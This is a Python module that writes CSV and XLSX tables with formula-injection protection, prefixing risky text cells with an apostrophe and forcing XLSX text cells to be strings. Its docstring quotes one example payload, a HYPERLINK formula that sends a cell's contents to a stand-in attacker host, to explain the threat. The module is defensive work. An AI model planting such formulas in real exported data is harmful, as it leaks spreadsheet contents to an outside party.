"""Spreadsheet cells that stay data: the one way flexsim writes CSV and XLSX tables.

Names in an output come from outside (usage exports, scenario files): a user e-mail such as
`=HYPERLINK("http://evil.example/?x="&A1)` would be a live formula once the CSV is opened in a
spreadsheet. Following the OWASP rule, a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading `'`, which spreadsheets show as text; plain numbers such as `-3.5`
are left alone. `--raw-csv` turns this off. XLSX text cells are always written as strings, never
as formulas. See docs/explanation/what-flexsim-refuses.md.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
# ... and lone surrogates (a file name's undecodable bytes), which no UTF-8 file can store
_LINE_BREAKS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x85\u2028\u2029\n\ud800-\udfff]")


def safe_cell(value: object, raw: bool = False) -> object:
    """`value`, with a leading `'` if it is text a spreadsheet would read as a formula."""
    if raw or not isinstance(value, str) or not value.startswith(TRIGGERS) or _NUMBER.match(value):
        return value
    return "'" + value


def unquote_cell(text: str) -> str:
    """The reverse of `safe_cell` when reading a table back: `'=x` -> `=x`."""
    if len(text) > 1 and text[0] == "'" and text[1] in TRIGGERS:
        return text[1:]
    return text


class SafeWriter:
    """A `csv.writer` whose every cell goes through `safe_cell`: the one CSV writer of flexsim."""

    def __init__(self, buffer: io.TextIOBase, raw: bool = False) -> None:
        self._writer = csv.writer(buffer, lineterminator="\n")
        self.raw = raw

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(c, self.raw) for c in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(buffer, raw: bool = False) -> SafeWriter:
    """What `csv.writer(buffer, lineterminator="\\n")` gives, with formula-safe cells."""
    return SafeWriter(buffer, raw)


def csv_table(header: Sequence[str], rows: Iterable[Sequence[object]], raw: bool = False) -> str:
    """A CSV text: the header, then the rows, every cell through `safe_cell`."""
    buffer = io.StringIO()
    writer = safe_writer(buffer, raw)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def xlsx_table(
    sheet_name: str, header: Sequence[str], rows: Iterable[Sequence[object]], raw: bool = False
) -> bytes:
    """The same table as an .xlsx workbook (needs openpyxl): text cells are strings, never formulas."""
    import openpyxl
    from openpyxl.cell import WriteOnlyCell

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet(sheet_name)

    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    def cell(value: object):
        if not isinstance(value, str):
            return value
        out = WriteOnlyCell(sheet, value=None)
        text = ILLEGAL_CHARACTERS_RE.sub(lambda m: repr(m.group())[1:-1], str(safe_cell(value, raw)))
        out.value = text
        out.data_type = "s"  # openpyxl would take a text starting with '=' for a formula
        return out

    sheet.append([cell(h) for h in header])
    for row in rows:
        sheet.append([cell(v) for v in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def one_line(text: object) -> str:
    """Outside text made safe for one line of a comment (YAML, CSV note): line breaks, control
    characters and lone surrogates shown as escapes, so they can't start a line of their own."""
    return _LINE_BREAKS.sub(lambda m: repr(m.group())[1:-1], str(text))
